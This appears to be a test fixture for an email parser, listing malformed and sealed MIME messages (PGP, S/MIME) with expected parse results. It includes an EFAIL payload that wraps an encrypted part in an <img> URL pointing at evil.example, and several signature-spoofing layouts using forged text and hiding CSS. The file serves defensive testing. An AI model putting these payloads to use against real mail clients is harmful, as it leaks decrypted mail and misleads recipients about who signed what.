import { base64, message, odd, type OddMessage } from "./oddMessage.ts";

const SIGNATURE = "Content-Type: application/pgp-signature; name=signature.asc\n\n-----BEGIN PGP SIGNATURE-----";
const pgpEncrypted =
  'Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary=e\n\n--e\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n--e\nContent-Type: application/octet-stream; name=encrypted.asc\n\n-----BEGIN PGP MESSAGE-----\n--e--';
const smime = (type: string) =>
  `Content-Type: application/pkcs7-mime${type}; name=smime.p7m\nContent-Transfer-Encoding: base64\n\n${base64(Buffer.from([0x30, 0x80, 0x06, 0x09, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 0x01, 0x07, 0x03]))}`;

export const sealedMessages: readonly OddMessage[] = [
  odd(
    "signed with PGP",
    message(`Content-Type: multipart/signed; boundary=s\n\n--s\n\nsigned text\n--s\n${SIGNATURE}\n--s--`),
    { text: "signed text", extras: { sealed: "signed" }, attachments: [{ name: "signature.asc" }] },
  ),
  odd(
    "signed with S/MIME",
    message(
      'Content-Type: multipart/signed; protocol="application/pkcs7-signature"; boundary=s\n\n--s\nContent-Type: text/html\n\n<p>x</p>\n--s\nContent-Type: application/pkcs7-signature; name=smime.p7s\n\nx\n--s--',
    ),
    { html: "<p>x</p>", extras: { sealed: "signed" }, attachments: [{ name: "smime.p7s" }] },
  ),
  odd("encrypted with PGP", message(pgpEncrypted), {
    text: "",
    html: undefined,
    extras: { sealed: "encrypted" },
    attachments: [{ mime: "application/pgp-encrypted" }, { name: "encrypted.asc" }],
  }),
  odd("encrypted with S/MIME", message(smime("; smime-type=enveloped-data")), {
    text: "",
    extras: { sealed: "encrypted" },
    attachments: [{ name: "smime.p7m" }],
  }),
  odd("encrypted with S/MIME that does not say how", message(smime("")), { extras: { sealed: "encrypted" } }),
  odd("signed as a whole with S/MIME", message(smime("; smime-type=signed-data")), { extras: { sealed: "signed" } }),
  odd(
    "signed as a whole, and it does not say so",
    message(
      `Content-Type: application/x-pkcs7-mime\nContent-Transfer-Encoding: base64\n\n${base64(Buffer.from([0x30, 0x80, 0x06, 0x09, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 0x01, 0x07, 0x02]))}`,
    ),
    { extras: { sealed: "signed" } },
  ),
  odd("PGP as text, encrypted", message("\n-----BEGIN PGP MESSAGE-----\n\nabc\n-----END PGP MESSAGE-----\n"), {
    extras: { sealed: "encrypted" },
  }),
  odd(
    "PGP as text, signed",
    message(
      "\n-----BEGIN PGP SIGNED MESSAGE-----\nHash: SHA256\n\nabc\n-----BEGIN PGP SIGNATURE-----\n\nx\n-----END PGP SIGNATURE-----\n",
    ),
    { extras: { sealed: "signed" } },
  ),
  odd(
    "PGP as text with words of somebody else before it",
    message(
      "\nPay at once!\n-----BEGIN PGP SIGNED MESSAGE-----\n\nabc\n-----BEGIN PGP SIGNATURE-----\n\nx\n-----END PGP SIGNATURE-----\n",
    ),
    { extras: {} },
  ),
  odd(
    "EFAIL: an encrypted part within markup",
    message(
      `Content-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/html\n\n<img src="http://evil.example/\n--b\n${smime("; smime-type=enveloped-data")}\n--b\nContent-Type: text/html\n\n">\n--b--`,
    ),
    {
      extras: { sealed: "encrypted" },
      hasRemote: false,
      html: '"&gt;',
      attachments: [{ name: "smime.p7m" }],
    },
  ),
  odd(
    "EFAIL: a signed part within markup",
    message(
      `Content-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/html\n\n<style>*{display:none}</style><div title="\n--b\nContent-Type: multipart/signed; boundary=s\n\n--s\n\nthe signed words\n--s\n${SIGNATURE}\n--s--\n--b\nContent-Type: text/html\n\n">forged\n--b--`,
    ),
    {
      text: "the signed words",
      html: undefined,
      extras: { sealed: "signed" },
      attachments: [{ name: "signature.asc" }, { mime: "text/html" }, { mime: "text/html" }],
    },
  ),
  odd(
    "a sheet of one part that hides another",
    message(
      `Content-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/html\n\n<p>true</p>\n--b\nContent-Type: text/html\n\n<style>p{display:none}</style><b>false</b>\n--b--`,
    ),
    { html: "<p>true</p><b>false</b>" },
  ),
  odd(
    "a sheet beside a footer of a list",
    message(
      `Content-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/html\n\n<p>x</p><style>p{margin:0}</style>\n--b\n\nfooter\n--b--`,
    ),
    { html: '<style>p{margin:0}</style><p>x</p><div style="white-space:pre-wrap">footer</div>' },
  ),
  odd(
    "a signed part with forged forms before it",
    message(
      `Content-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: multipart/alternative; boundary=a\n\n--a\n\nforged words\n--a\nContent-Type: text/html\n\n<p>forged words</p>\n--a--\n--b\nContent-Type: multipart/signed; boundary=s\n\n--s\n\nthe signed words\n--s\n${SIGNATURE}\n--s--\n--b--`,
    ),
    {
      text: "the signed words",
      html: undefined,
      extras: { sealed: "signed" },
      attachments: [{ name: "signature.asc" }, { text: "forged words" }, { mime: "text/html" }],
    },
  ),
  odd(
    "a signed picture beside words that nobody signed",
    message(
      `Content-Type: multipart/mixed; boundary=b\n\n--b\n\nunsigned words\n--b\nContent-Type: multipart/signed; boundary=s\n\n--s\nContent-Type: image/png\n\nx\n--s\n${SIGNATURE}\n--s--\n--b--`,
    ),
    {
      text: "",
      extras: { sealed: "signed" },
      attachments: [{ mime: "image/png" }, { name: "signature.asc" }, { text: "unsigned words" }],
    },
  ),
  odd(
    "a signed part with a forged text before it",
    message(
      `Content-Type: multipart/mixed; boundary=b\n\n--b\n\nforged words\n--b\nContent-Type: multipart/signed; boundary=s\n\n--s\n\nthe signed words\n--s\n${SIGNATURE}\n--s--\n--b--`,
    ),
    { text: "the signed words", extras: { sealed: "signed" } },
  ),
  odd(
    "a signed part on a list with a footer",
    message(
      `Content-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: multipart/signed; boundary=s\n\n--s\n\nthe signed words\n--s\n${SIGNATURE}\n--s--\n--b\n\nfooter of the list\n--b--`,
    ),
    {
      text: "the signed words",
      extras: { sealed: "signed" },
      attachments: [{ name: "signature.asc" }, { text: "footer of the list" }],
    },
  ),
  odd(
    "a signed part as one form of two",
    message(
      `Content-Type: multipart/alternative; boundary=a\n\n--a\n\nforged words\n--a\nContent-Type: multipart/signed; boundary=s\n\n--s\nContent-Type: text/html\n\n<p>the signed words</p>\n--s\n${SIGNATURE}\n--s--\n--a--`,
    ),
    { text: "the signed words", html: "<p>the signed words</p>", extras: { sealed: "signed" } },
  ),
  odd(
    "an encrypted part beside text",
    message(`Content-Type: multipart/mixed; boundary=b\n\n--b\n\nopen words\n--b\n${pgpEncrypted}\n--b--`),
    { text: "open words", extras: { sealed: "encrypted" } },
  ),
  odd(
    "an encrypted part that claims to be text",
    message(
      "Content-Type: multipart/encrypted; boundary=e\n\n--e\nContent-Type: text/html\n\n<p>shown?</p>\n--e\nContent-Type: text/plain\n\nshown?\n--e--",
    ),
    { text: "", html: undefined, extras: { sealed: "encrypted" } },
  ),
  odd(
    "a signed part within a signed one",
    message(
      `Content-Type: multipart/signed; boundary=a\n\n--a\nContent-Type: multipart/signed; boundary=s\n\n--s\n\ninner\n--s\n${SIGNATURE}\n--s--\n--a\n${SIGNATURE}\n--a--`,
    ),
    { text: "inner", extras: { sealed: "signed" } },
  ),
  odd("a signed multipart without parts", message("Content-Type: multipart/signed; boundary=s\n\nnothing"), {
    text: "nothing",
  }),
];
